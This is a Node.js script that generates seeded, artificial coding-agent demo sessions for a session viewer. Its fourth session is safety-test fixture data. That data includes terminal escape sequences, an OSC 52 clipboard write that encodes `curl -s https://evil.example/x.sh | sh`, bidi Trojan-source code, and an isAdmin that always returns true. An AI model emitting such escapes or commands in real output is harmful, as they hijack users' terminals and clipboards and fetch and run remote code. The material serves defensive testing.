// Writes the bundled demo sessions (assets/demo/sessions) with pi's own
// SessionManager, so every line is exactly what pi writes: a bug hunt that
// runs `cargo test` until it passes, a compacted session, two branches with a
// branch summary, a named and labelled session and its fork, a screenshot,
// and a session full of hostile text (terminal escapes, OSC 52, bidi
// controls) that the safety tests walk through.
//
// The clock and pi's random ids are seeded, so a run writes the same bytes
// every time (a test regenerates them and compares). piscope shifts the
// times when it copies the demo, so the dates here only need to be spaced
// like a real history: about three weeks, newest last.
//
// usage: node scripts/make-demo-sessions.mjs [--out DIR]   (DIR must not exist yet;
//        default assets/demo/sessions). PI_REF_DIR: pi's reference package
//        (default target/pi-reference).
import { existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { seededPi } from "./seeded-pi.mjs";

const repo = resolve(dirname(fileURLToPath(import.meta.url)), "..");
const args = process.argv.slice(2);
const outArg = args.indexOf("--out");
const OUT = resolve(outArg >= 0 ? args[outArg + 1] : join(repo, "assets/demo/sessions"));
if (existsSync(OUT) && readdirSync(OUT).length > 0) {
  console.error(`${OUT} is not empty: remove it first (the files are written fresh, never over others)`);
  process.exit(2);
}

// --- A seeded world: pi's ids and clock ----------------------------------

const { SessionManager, RealDate, hex, setClock, wait } = await seededPi({ seed: 20260105, start: 0, repo });
/** Sets the clock to a day of the demo's history (day 0 is three weeks back). */
const day = (n, hh, mm) => setClock(RealDate.UTC(2026, 0, 5 + n, hh, mm, 0) + (n * 7919) % 1000);

// --- How a conversation is written ---------------------------------------

const SONNET = { api: "anthropic-messages", provider: "anthropic", model: "claude-sonnet-4-5", price: [3, 15, 0.3, 3.75] };
const CODEX = { api: "openai-responses", provider: "openai", model: "gpt-5.1-codex", price: [1.25, 10, 0.125, 0] };

function encodeCwd(cwd) {
  return `--${cwd.replace(/^[/\\]/, "").replace(/[/\\:]/g, "-")}--`;
}

class Talk {
  constructor(cwd, model = SONNET) {
    this.sm = SessionManager.create(cwd, join(OUT, encodeCwd(cwd)));
    this.model = model;
    this.context = 5200;
    this.calls = 0;
    this.sm.appendModelChange(model.provider, model.model);
    this.sm.appendThinkingLevelChange("medium");
  }

  switchModel(model) {
    wait(20);
    this.model = model;
    this.sm.appendModelChange(model.provider, model.model);
  }

  user(text, images = []) {
    wait(40);
    this.context += Math.round(text.length / 4);
    return this.sm.appendMessage({ role: "user", content: [{ type: "text", text }, ...images], timestamp: Date.now() });
  }

  /** One assistant turn: optional thinking, text, tool calls. Returns the entry id. */
  say({ thinking, text, tools = [] }, stop) {
    wait(6 + (text?.length ?? 0) / 60 + tools.length * 3);
    const content = [];
    if (thinking) content.push({ type: "thinking", thinking, thinkingSignature: `sig_${hex(6)}` });
    if (text) content.push({ type: "text", text });
    this.pending = tools.map(([name, args]) => {
      const call = { type: "toolCall", id: `toolu_${hex(12)}`, name, arguments: args };
      content.push(call);
      return call;
    });
    const output = Math.round(((thinking?.length ?? 0) + (text?.length ?? 0) + JSON.stringify(tools).length) / 3.5) + 12;
    const cacheRead = Math.max(0, this.context - 900);
    const input = this.context - cacheRead;
    const cacheWrite = 600 + (this.calls++ % 3) * 250;
    const [pi, po, pr, pw] = this.model.price;
    const c = (n, p) => Math.round(n * p) / 1e6;
    const cost = { input: c(input, pi), output: c(output, po), cacheRead: c(cacheRead, pr), cacheWrite: c(cacheWrite, pw) };
    cost.total = Math.round((cost.input + cost.output + cost.cacheRead + cost.cacheWrite) * 1e6) / 1e6;
    this.context += output + cacheWrite;
    const { api, provider, model } = this.model;
    return this.sm.appendMessage({
      role: "assistant",
      content,
      api,
      provider,
      model,
      usage: { input, output, cacheRead, cacheWrite, totalTokens: input + output + cacheRead + cacheWrite, cost },
      stopReason: stop ?? (tools.length ? "toolUse" : "stop"),
      timestamp: Date.now(),
    });
  }

  /** The result of the next pending tool call. */
  result(text, { isError = false, details, seconds = 1 } = {}) {
    const call = this.pending.shift();
    wait(seconds);
    this.context += Math.round(text.length / 4);
    return this.sm.appendMessage({
      role: "toolResult",
      toolCallId: call.id,
      toolName: call.name,
      content: [{ type: "text", text }],
      ...(details ? { details } : {}),
      isError,
      timestamp: Date.now(),
    });
  }

  edited(path, diff) {
    return this.result(`Successfully replaced 1 block(s) in ${path}.`, { details: { diff, firstChangedLine: Number(/^[+-]\s*(\d+)/m.exec(diff)?.[1] ?? 1) } });
  }

  label(id, text) {
    wait(30);
    this.sm.appendLabelChange(id, text);
  }

  file() {
    return this.sm.getSessionFile();
  }
}

const edit = (path, oldText, newText) => ["edit", { path, edits: [{ oldText, newText }] }];
const read = (path, extra = {}) => ["read", { path, ...extra }];
const bash = (command) => ["bash", { command }];
const numbered = (text, from = 1) =>
  text
    .split("\n")
    .map((l, i) => `${String(from + i).padStart(4)}\t${l}`)
    .join("\n");

// A 24x12 screenshot: a green button with its label, a red badge over it.
const SCREENSHOT =
  "iVBORw0KGgoAAAANSUhEUgAAABgAAAAMCAIAAAD3UuoiAAAALklEQVR42mP4SiXAQH2D9GqNyEBDy6D/RAD6GkQSuqyvD0GD2SCCAK4HK6KaQQCRVRwpSnI4cgAAAABJRU5ErkJggg==";

const SHOP = "/home/ada/src/web-shop";
const COMPILER = "/home/ada/src/compiler";
const DOTFILES = "/home/ada/dotfiles";

// --- 1. web-shop: a screenshot of a layout bug ---------------------------

{
  day(0, 9, 12);
  const t = new Talk(SHOP);
  t.user("On a phone the cart badge sits on top of the \"Pay now\" button (screenshot). Can you fix the layout?", [
    { type: "image", data: SCREENSHOT, mimeType: "image/png" },
  ]);
  t.say({
    thinking: "The badge is absolutely positioned; on narrow screens the checkout bar wraps and the badge keeps its desktop offset.",
    text: "The red badge overlaps the button's right edge. Let me look at the checkout bar styles.",
    tools: [read("src/components/CheckoutBar.module.css")],
  });
  t.result(
    ".bar {\n  display: flex;\n  gap: 1rem;\n  align-items: center;\n}\n\n.badge {\n  position: absolute;\n  right: 1.5rem;\n  bottom: 3.25rem;\n}\n\n.pay {\n  flex: 1;\n  min-height: 3rem;\n}\n",
  );
  t.say({
    text: "The badge is positioned against the page, not the bar. I'll make the bar the positioning context and pin the badge to the button's corner.",
    tools: [
      edit(
        "src/components/CheckoutBar.module.css",
        ".bar {\n  display: flex;",
        ".bar {\n  position: relative;\n  display: flex;\n  flex-wrap: wrap;",
      ),
    ],
  });
  t.edited("src/components/CheckoutBar.module.css", "   1 .bar {\n+  2   position: relative;\n   3   display: flex;\n+  4   flex-wrap: wrap;");
  t.say({
    tools: [edit("src/components/CheckoutBar.module.css", "  right: 1.5rem;\n  bottom: 3.25rem;", "  top: -0.5rem;\n  right: -0.5rem;")],
  });
  t.edited("src/components/CheckoutBar.module.css", "-  9   right: 1.5rem;\n- 10   bottom: 3.25rem;\n+  9   top: -0.5rem;\n+ 10   right: -0.5rem;");
  t.say({ tools: [bash("npx playwright test checkout-bar --project=mobile")] });
  t.result("Running 3 tests using 1 worker\n\n  ✓  1 [mobile] › checkout-bar.spec.ts:4:3 › badge stays inside the bar (812ms)\n  ✓  2 [mobile] › checkout-bar.spec.ts:12:3 › pay button is fully visible (640ms)\n  ✓  3 [mobile] › checkout-bar.spec.ts:20:3 › bar wraps below 360px (701ms)\n\n  3 passed (4.1s)", { seconds: 6 });
  t.say({
    text: "Fixed: the bar is now the badge's positioning context (`position: relative`) and wraps on narrow screens, and the badge sits on the button's top-right corner. The three mobile layout tests pass.",
  });
}

// --- 2. web-shop: named and labelled; 3. its fork -------------------------

{
  day(3, 14, 5);
  const t = new Talk(SHOP);
  t.user("Some order totals are a cent off from the invoice, e.g. 3 × €19.99 with 19% VAT. Find out why.");
  t.say({
    thinking: "Likely floating point: summing gross prices as floats and rounding at the end vs per line.",
    text: "I'll start with how the cart total is computed.",
    tools: [read("src/cart/total.ts")],
  });
  t.result(
    numbered(
      'import type { Line } from "./types";\n\nexport function total(lines: Line[], vatRate: number): number {\n  const net = lines.reduce((sum, l) => sum + l.price * l.quantity, 0);\n  return Math.round(net * (1 + vatRate) * 100) / 100;\n}',
    ),
  );
  t.say({ tools: [bash("npm test -- total")] });
  t.result(
    "> web-shop@2.3.0 test\n> vitest run total\n\n FAIL  src/cart/total.test.ts > total > matches the invoice for 3 × 19.99\nAssertionError: expected 71.37 to be 71.36\n - Expected\n + Received\n\n - 71.36\n + 71.37\n\n ❯ src/cart/total.test.ts:9:38\n\n Test Files  1 failed (1)\n      Tests  1 failed | 4 passed (5)\n\nCommand exited with code 1",
    { isError: true, seconds: 3 },
  );
  const cause = t.say({
    text: "Root cause: the cart rounds once on the whole basket, the invoice rounds VAT per line (as the tax office asks). 3 × 19.99 × 1.19 = 71.3643 → 71.36 per line sums, but floats make the basket total 71.36999… → 71.37. The fix is to work in integer cents and round VAT per line.",
  });
  t.label(cause, "root cause");
  t.user("Makes sense. Do it in cents, per line, like the invoice.");
  t.say({
    tools: [
      edit(
        "src/cart/total.ts",
        "  const net = lines.reduce((sum, l) => sum + l.price * l.quantity, 0);\n  return Math.round(net * (1 + vatRate) * 100) / 100;",
        "  const cents = lines.reduce((sum, l) => {\n    const net = Math.round(l.price * 100) * l.quantity;\n    return sum + net + Math.round(net * vatRate);\n  }, 0);\n  return cents / 100;",
      ),
    ],
  });
  const fix = t.edited(
    "src/cart/total.ts",
    "-  4   const net = lines.reduce((sum, l) => sum + l.price * l.quantity, 0);\n-  5   return Math.round(net * (1 + vatRate) * 100) / 100;\n+  4   const cents = lines.reduce((sum, l) => {\n+  5     const net = Math.round(l.price * 100) * l.quantity;\n+  6     return sum + net + Math.round(net * vatRate);\n+  7   }, 0);\n+  8   return cents / 100;",
  );
  t.say({ tools: [bash("npm test -- total")] });
  t.result(
    "> web-shop@2.3.0 test\n> vitest run total\n\n ✓ src/cart/total.test.ts (5 tests) 4ms\n\n Test Files  1 passed (1)\n      Tests  5 passed (5)\n   Duration  212ms",
    { seconds: 3 },
  );
  const done = t.say({
    text: "All five total tests pass, including 3 × €19.99 → €71.36. Totals are now computed in integer cents with VAT rounded per line, the same rule as the invoice.",
  });
  t.label(fix, "fix");
  wait(60);
  t.sm.appendSessionInfo("VAT rounding at checkout");
  t.label(done, "ship it");

  // 3. The next morning: a fork from the root cause, for the invoice PDF.
  day(4, 8, 47);
  const fork = t.sm.createBranchedSession(cause);
  if (!fork) throw new Error("no fork written");
  t.sm.appendSessionInfo("VAT rounding: invoice PDF");
  t.user("Before the cart: does the invoice PDF generator round the same way? Check it.");
  t.say({ tools: [bash("grep -rn \"Math.round\" src/invoice")] });
  t.result("src/invoice/lines.ts:14:    const vat = Math.round(net * rate * 100) / 100;\nsrc/invoice/pdf.ts:88:  const width = Math.round(doc.widthOfString(text));");
  t.say({
    text: "Yes: `src/invoice/lines.ts` rounds VAT per line (line 14), so the invoice is the reference and only the cart needs changing. `pdf.ts` only rounds a text width.",
  });
}

// --- 4. dotfiles: hostile text, for the safety tests ----------------------
// Everything a session file may carry that must never reach a terminal raw:
// colour and cursor escapes, a screen clear, a window title, OSC 52 (writes
// the clipboard), OSC 8 links, a terminal query, C1 controls, bidi overrides
// (Trojan source), zero-width characters, backspaces and carriage returns.

{
  const ESC = "\u001b";
  const BEL = "\u0007";
  const OSC52 = `${ESC}]52;c;${Buffer.from("curl -s https://evil.example/x.sh | sh").toString("base64")}${BEL}`;
  const log = [
    `${ESC}[1;32m✓${ESC}[0m build finished`,
    `${ESC}[31merror${ESC}[0m: deploy failed${ESC}]0;you have been pwned${BEL}`,
    `${ESC}[2J${ESC}[Hscreen cleared, cursor home${ESC}[6n`,
    `copy this:${OSC52} done`,
    `${ESC}]8;;https://evil.example/${ESC}\\docs${ESC}]8;;${ESC}\\ and \u009b31mC1 red\u009b0m`,
    "progress 10%\rprogress 100%\b\b\b\bDONE",
  ].join("\n");
  day(6, 11, 3);
  const t = new Talk(DOTFILES);
  t.user(`After \`cat deploy.log\` my terminal title changes and my clipboard has a curl command in it?!\n\n${log}`);
  t.say({
    thinking: "The log contains OSC 0 (title) and OSC 52 (clipboard write) sequences; cat passes them to the terminal.",
    text: "That log contains terminal control sequences: `ESC ] 0;…` sets the window title and `ESC ] 52;c;…` writes your clipboard. `cat` passes them through. Let me look at the raw bytes safely.",
    tools: [bash("cat -v deploy.log | head -5")],
  });
  t.result(`${log}\n\u202eevil\u202c and \u2066isolated\u2069 and zero\u200bwidth\ufeff`);
  t.say({
    text: `Confirmed: line 4 carries OSC 52 with a base64 payload (\`curl -s https://evil.example/x.sh | sh\`). Never paste it. Use \`less -R\` or \`cat -v\` for untrusted logs.${ESC}[8m hidden${ESC}[0m`,
    tools: [read("bin/check-admin.js")],
  });
  t.result(
    numbered(`function isAdmin(user) {\n  /*\u202e } \u2066if (user.role === "admin")\u2069 \u2066 begin admins only */\n  return true;\n  /* end admins only \u202e { \u2066*/\n}`),
  );
  const trojan = t.say({
    text: "This file is a Trojan-source trick: bidi overrides (U+202E, U+2066) make line 2 look like a role check, but it is a comment and `isAdmin` always returns true.",
  });
  t.label(trojan, `bidi \u202etrap${ESC}[5m`);
  wait(30);
  t.sm.appendSessionInfo(`deploy.log ${ESC}]0;pwned${BEL}escapes`);
}

// --- 5. dotfiles: a short, plain session ---------------------------------

{
  day(8, 18, 40);
  const t = new Talk(DOTFILES);
  t.user("Give tmux a 50 000 line scrollback and vi keys in copy mode.");
  t.say({ tools: [read(".tmux.conf")] });
  t.result('set -g default-terminal "tmux-256color"\nset -g mouse on\n');
  t.say({ tools: [edit(".tmux.conf", "set -g mouse on\n", "set -g mouse on\nset -g history-limit 50000\nsetw -g mode-keys vi\n")] });
  t.edited(".tmux.conf", "   2 set -g mouse on\n+  3 set -g history-limit 50000\n+  4 setw -g mode-keys vi");
  t.say({ text: "Added `history-limit 50000` and `mode-keys vi`. Run `tmux source-file ~/.tmux.conf` to load them in a running server (the scrollback applies to new panes)." });
}

// --- 6. web-shop: two branches and a branch summary -----------------------

{
  day(10, 16, 20);
  const t = new Talk(SHOP);
  t.user("Show the number of items in the cart as a badge on the header's cart icon.");
  const plan = t.say({
    thinking: "Options: a global store subscribed by the header, or derive from the existing cart query.",
    text: "Two ways: keep a count in a small global store the header subscribes to, or derive it from the cart query the header can already use. I'll try the store first.",
    tools: [read("src/components/Header.tsx")],
  });
  t.result(
    numbered(
      'import { CartIcon } from "./icons";\nimport { useSession } from "../auth/session";\n\nexport function Header() {\n  const { user } = useSession();\n  return (\n    <header className="header">\n      <a href="/">Web Shop</a>\n      <a href="/cart" aria-label="Cart"><CartIcon /></a>\n      {user && <span>{user.name}</span>}\n    </header>\n  );\n}',
    ),
  );
  t.say({ tools: [["write", { path: "src/cart/countStore.ts", content: "import { create } from \"zustand\";\n\nexport const useCartCount = create<{ count: number; set: (n: number) => void }>((set) => ({\n  count: 0,\n  set: (count) => set({ count }),\n}));\n" }]] });
  t.result("Successfully wrote to src/cart/countStore.ts");
  t.say({ tools: [bash("npm run typecheck")] });
  t.result("> web-shop@2.3.0 typecheck\n> tsc --noEmit\n\nsrc/cart/countStore.ts(1,24): error TS2307: Cannot find module 'zustand' or its corresponding type declarations.\n\nCommand exited with code 2", { isError: true, seconds: 5 });
  t.say({ text: "The store needs a new dependency (zustand) and every place that changes the cart would have to update it by hand: it can go stale. Shall I add the dependency, or derive the count from the cart query instead?" });
  t.user("No new dependency. Go back and derive it from the cart query.");
  wait(20);
  t.sm.branchWithSummary(
    plan,
    "Tried a global count store (zustand) in src/cart/countStore.ts: a new dependency, and every cart change must update it or it goes stale; typecheck failed on the missing module. Decided: derive the count from the cart query instead.",
    { readFiles: ["src/components/Header.tsx"], modifiedFiles: ["src/cart/countStore.ts"] },
    false,
  );
  t.say({ tools: [read("src/cart/useCart.ts")] });
  t.result(
    numbered(
      'import { useQuery } from "@tanstack/react-query";\nimport { fetchCart } from "./api";\n\nexport function useCart() {\n  return useQuery({ queryKey: ["cart"], queryFn: fetchCart });\n}',
    ),
  );
  t.say({
    text: "The cart query is already shared and refreshed after every mutation, so the badge can read it directly.",
    tools: [
      edit(
        "src/components/Header.tsx",
        '      <a href="/cart" aria-label="Cart"><CartIcon /></a>',
        '      <a href="/cart" aria-label={`Cart, ${count} items`}>\n        <CartIcon />\n        {count > 0 && <span className="badge">{count}</span>}\n      </a>',
      ),
    ],
  });
  t.edited("src/components/Header.tsx", '-  9       <a href="/cart" aria-label="Cart"><CartIcon /></a>\n+  9       <a href="/cart" aria-label={`Cart, ${count} items`}>\n+ 10         <CartIcon />\n+ 11         {count > 0 && <span className="badge">{count}</span>}\n+ 12       </a>');
  t.say({
    tools: [
      edit(
        "src/components/Header.tsx",
        "  const { user } = useSession();",
        "  const { user } = useSession();\n  const { data: cart } = useCart();\n  const count = cart?.lines.reduce((n, l) => n + l.quantity, 0) ?? 0;",
      ),
    ],
  });
  t.edited("src/components/Header.tsx", "   5   const { user } = useSession();\n+  6   const { data: cart } = useCart();\n+  7   const count = cart?.lines.reduce((n, l) => n + l.quantity, 0) ?? 0;");
  t.say({ tools: [bash("npm run typecheck && npm test -- Header")] });
  t.result("> web-shop@2.3.0 typecheck\n> tsc --noEmit\n\n> web-shop@2.3.0 test\n> vitest run Header\n\n ✓ src/components/Header.test.tsx (3 tests) 31ms\n\n Test Files  1 passed (1)\n      Tests  3 passed (3)", { seconds: 9 });
  t.say({ text: "Done: the header derives the item count from the cart query and shows a badge when the cart is not empty (with an accessible label). No new dependency; typecheck and the header tests pass." });
}

// --- 7. compiler: a long session, compacted ------------------------------

{
  day(14, 13, 2);
  const t = new Talk(COMPILER);
  t.user("Add constant folding to the optimiser: `2 * (3 + 4)` should become `14` before codegen.");
  t.say({ text: "I'll read the optimiser and the expression tree first.", tools: [read("src/opt.rs"), read("src/ast.rs")] });
  t.result(numbered("use crate::ast::Expr;\n\n/// Passes over the tree before codegen.\npub fn optimise(e: Expr) -> Expr {\n    e\n}"));
  t.result(numbered("#[derive(Debug, Clone, PartialEq)]\npub enum Expr {\n    Int(i64),\n    Var(String),\n    Neg(Box<Expr>),\n    Bin(Op, Box<Expr>, Box<Expr>),\n}\n\n#[derive(Debug, Clone, Copy, PartialEq)]\npub enum Op { Add, Sub, Mul, Div }"));
  t.say({
    text: "`optimise` is a stub. I'll fold bottom-up: fold the children, then replace an operation on two literals by its value.",
    tools: [
      edit(
        "src/opt.rs",
        "pub fn optimise(e: Expr) -> Expr {\n    e\n}",
        "pub fn optimise(e: Expr) -> Expr {\n    match e {\n        Expr::Bin(op, l, r) => match (optimise(*l), optimise(*r)) {\n            (Expr::Int(a), Expr::Int(b)) => Expr::Int(op.apply(a, b)),\n            (l, r) => Expr::Bin(op, Box::new(l), Box::new(r)),\n        },\n        Expr::Neg(x) => match optimise(*x) {\n            Expr::Int(n) => Expr::Int(-n),\n            x => Expr::Neg(Box::new(x)),\n        },\n        e => e,\n    }\n}",
      ),
    ],
  });
  t.edited("src/opt.rs", "-  5     e\n+  5     match e {\n+  6         Expr::Bin(op, l, r) => match (optimise(*l), optimise(*r)) {");
  t.say({ tools: [bash("cargo build 2>&1 | head -12")] });
  t.result("   Compiling calc v0.4.0 (/home/ada/src/compiler)\nerror[E0599]: no method named `apply` found for enum `Op` in the current scope\n  --> src/opt.rs:7:55\n   |\n7  |             (Expr::Int(a), Expr::Int(b)) => Expr::Int(op.apply(a, b)),\n   |                                                       ^^^^^ method not found in `Op`\n\nerror: could not compile `calc` (lib) due to 1 previous error\n\nCommand exited with code 101", { isError: true, seconds: 3 });
  t.say({
    text: "`Op::apply` doesn't exist yet; the evaluator has the same arithmetic inline. I'll move it onto `Op` so both share it.",
    tools: [edit("src/ast.rs", "pub enum Op { Add, Sub, Mul, Div }", "pub enum Op { Add, Sub, Mul, Div }\n\nimpl Op {\n    pub fn apply(self, a: i64, b: i64) -> i64 {\n        match self {\n            Op::Add => a.wrapping_add(b),\n            Op::Sub => a.wrapping_sub(b),\n            Op::Mul => a.wrapping_mul(b),\n            Op::Div => a / b,\n        }\n    }\n}")],
  });
  t.edited("src/ast.rs", "  10 pub enum Op { Add, Sub, Mul, Div }\n+ 11 \n+ 12 impl Op {");
  t.say({ tools: [bash("cargo test opt 2>&1 | tail -5")] });
  t.result("running 3 tests\ntest opt::tests::folds_nested ... ok\ntest opt::tests::keeps_variables ... ok\ntest opt::tests::folds_negation ... ok\n\ntest result: ok. 3 passed; 0 failed; 0 ignored; 0 measured; 20 filtered out; finished in 0.00s", { seconds: 4 });
  t.say({ text: "Folding works: `2 * (3 + 4)` becomes `Int(14)`, variables are kept, negation folds." });
  const kept = t.user("What about `1 / 0`? Folding must not crash the compiler.");
  t.say({
    thinking: "a / b with b == 0 panics at compile time now. Keep division by zero unfolded so the runtime reports it, and i64::MIN / -1 overflows too.",
    text: "Right: `Op::apply` panics on division by zero (and on `i64::MIN / -1`), which would now crash the compiler. I'll make folding skip those and leave them for the runtime error.",
    tools: [edit("src/ast.rs", "    pub fn apply(self, a: i64, b: i64) -> i64 {", "    /// `None` where the runtime must report the error (division by zero, overflow).\n    pub fn apply(self, a: i64, b: i64) -> Option<i64> {")],
  });
  t.edited("src/ast.rs", "-  13     pub fn apply(self, a: i64, b: i64) -> i64 {\n+  13     /// `None` where the runtime must report the error (division by zero, overflow).\n+  14     pub fn apply(self, a: i64, b: i64) -> Option<i64> {");
  t.say({ tools: [bash("cargo test 2>&1 | tail -4")] });
  t.result("test result: ok. 25 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.01s\n\n   Doc-tests calc\n\ntest result: ok. 2 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.29s", { seconds: 6 });
  t.say({ text: "`1 / 0` and `i64::MIN / -1` are left unfolded, so the program still fails at run time with the usual message. 25 tests pass, two of them new." });
  wait(600);
  t.sm.appendCompaction(
    "## Goal\nConstant folding in the optimiser (`src/opt.rs`): fold operations on literals before codegen, never crash the compiler.\n\n## Progress\n- `optimise` folds bottom-up: binary operations and negation on literals.\n- Arithmetic moved to `Op::apply` in `src/ast.rs`, shared with the evaluator; returns `None` for division by zero and overflow, which stay unfolded for the runtime to report.\n- `cargo test`: 25 passed.\n\n## Next\n- Fold comparisons once the parser has them.\n- Report folded division by zero as a warning.",
    kept,
    48213,
    { readFiles: ["src/opt.rs", "src/ast.rs"], modifiedFiles: ["src/opt.rs", "src/ast.rs"] },
    false,
  );
  t.switchModel(CODEX);
  t.user("Now warn at compile time when folding finds a division by zero.");
  t.say({ tools: [bash("grep -n \"fn warn\" -r src")] });
  t.result("src/diag.rs:22:pub fn warn(span: Span, message: impl Into<String>) -> Diagnostic {");
  t.say({
    text: "There is a `diag::warn`. I'll have `optimise` collect warnings and emit one for a literal division by zero, with the operator's span.",
    tools: [edit("src/opt.rs", "pub fn optimise(e: Expr) -> Expr {", "pub fn optimise(e: Expr, warnings: &mut Vec<Diagnostic>) -> Expr {")],
  });
  t.edited("src/opt.rs", "-  4 pub fn optimise(e: Expr) -> Expr {\n+  4 pub fn optimise(e: Expr, warnings: &mut Vec<Diagnostic>) -> Expr {");
  t.say({ tools: [bash("cargo test 2>&1 | tail -3")] });
  t.result("test result: ok. 26 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.01s", { seconds: 6 });
  t.say({ text: "`1 / 0` now compiles with \"warning: division by zero is evaluated at run time\" pointing at the `/`. 26 tests pass." });
}

// --- 8. compiler: a bug hunt that runs cargo test until it passes ---------

{
  day(19, 10, 31);
  const t = new Talk(COMPILER);
  t.user("`cargo test` fails since yesterday: lexer::tests::last_token_without_newline. Find the bug and fix it.");
  t.say({ tools: [bash("cargo test lexer 2>&1 | tail -20")] });
  t.result(
    "   Compiling calc v0.4.0 (/home/ada/src/compiler)\n    Finished `test` profile [unoptimized + debuginfo] target(s) in 2.87s\n     Running unittests src/lib.rs (target/debug/deps/calc-3f9a1c2b7d5e8a10)\n\nrunning 6 tests\ntest lexer::tests::empty_input ... ok\ntest lexer::tests::numbers ... ok\ntest lexer::tests::operators ... ok\ntest lexer::tests::identifiers ... ok\ntest lexer::tests::comments ... ok\ntest lexer::tests::last_token_without_newline ... FAILED\n\nfailures:\n\n---- lexer::tests::last_token_without_newline stdout ----\n\nthread 'lexer::tests::last_token_without_newline' panicked at src/lexer.rs:141:9:\nassertion `left == right` failed\n  left: [Ident(\"let\"), Ident(\"x\"), Eq]\n right: [Ident(\"let\"), Ident(\"x\"), Eq, Int(42)]\n\nfailures:\n    lexer::tests::last_token_without_newline\n\ntest result: FAILED. 5 passed; 1 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.00s\n\nerror: test failed, to rerun pass `--lib`\n\nCommand exited with code 101",
    { isError: true, seconds: 4 },
  );
  t.say({
    thinking: "The last token is dropped when input ends right after a number. Probably the number scanner only emits on a non-digit.",
    text: "The final `42` is lost when the input ends right after it. Let me read the number scanner.",
    tools: [read("src/lexer.rs", { offset: 60, limit: 30 })],
  });
  t.result(
    numbered(
      "    fn number(&mut self) -> Option<Token> {\n        let start = self.pos;\n        while let Some(c) = self.peek() {\n            if !c.is_ascii_digit() {\n                let text = &self.src[start..self.pos];\n                return Some(Token::Int(text.parse().ok()?));\n            }\n            self.bump();\n        }\n        None\n    }",
      60,
    ),
  );
  t.say({
    text: "Found it: `number` only returns a token when it meets a non-digit. At the end of input the loop ends and it returns `None`, dropping the number. It should emit whatever digits it read.",
    tools: [
      edit(
        "src/lexer.rs",
        "        while let Some(c) = self.peek() {\n            if !c.is_ascii_digit() {\n                let text = &self.src[start..self.pos];\n                return Some(Token::Int(text.parse().ok()?));\n            }\n            self.bump();\n        }\n        None",
        "        while self.peek().is_some_and(|c| c.is_ascii_digit()) {\n            self.bump();\n        }\n        let text = &self.src[start..self.pos];\n        text.parse().ok().map(Token::Int)",
      ),
    ],
  });
  t.edited(
    "src/lexer.rs",
    "-  62         while let Some(c) = self.peek() {\n-  63             if !c.is_ascii_digit() {\n-  64                 let text = &self.src[start..self.pos];\n-  65                 return Some(Token::Int(text.parse().ok()?));\n-  66             }\n-  67             self.bump();\n-  68         }\n-  69         None\n+  62         while self.peek().is_some_and(|c| c.is_ascii_digit()) {\n+  63             self.bump();\n+  64         }\n+  65         let text = &self.src[start..self.pos];\n+  66         text.parse().ok().map(Token::Int)",
  );
  t.say({ tools: [bash("cargo test 2>&1 | tail -8")] });
  t.result(
    "test parser::tests::precedence ... ok\ntest parser::tests::unary_minus ... ok\ntest eval::tests::division_by_zero ... ok\n\ntest result: ok. 23 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.01s\n\n   Doc-tests calc\n\ntest result: ok. 2 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.31s",
    { seconds: 5 },
  );
  t.say({
    text: "Fixed in `src/lexer.rs`: the number scanner now emits the digits it read even at the end of the input, instead of only when a non-digit follows. All 23 tests and the 2 doc tests pass.",
  });
}

// pi writes a fork's parent as an absolute path; the demo stores it as it
// would be on the machine these sessions come from (piscope's copy points
// it at the copied parent).
for (const project of readdirSync(OUT)) {
  for (const name of readdirSync(join(OUT, project))) {
    const file = join(OUT, project, name);
    const lines = readFileSync(file, "utf8").split("\n");
    const header = JSON.parse(lines[0]);
    if (header.parentSession) {
      const rel = header.parentSession.slice(OUT.length + 1);
      header.parentSession = `/home/ada/.pi/agent/sessions/${rel}`;
      lines[0] = JSON.stringify(header);
      writeFileSync(file, lines.join("\n"));
    }
  }
}
console.log(JSON.stringify({ out: OUT }));
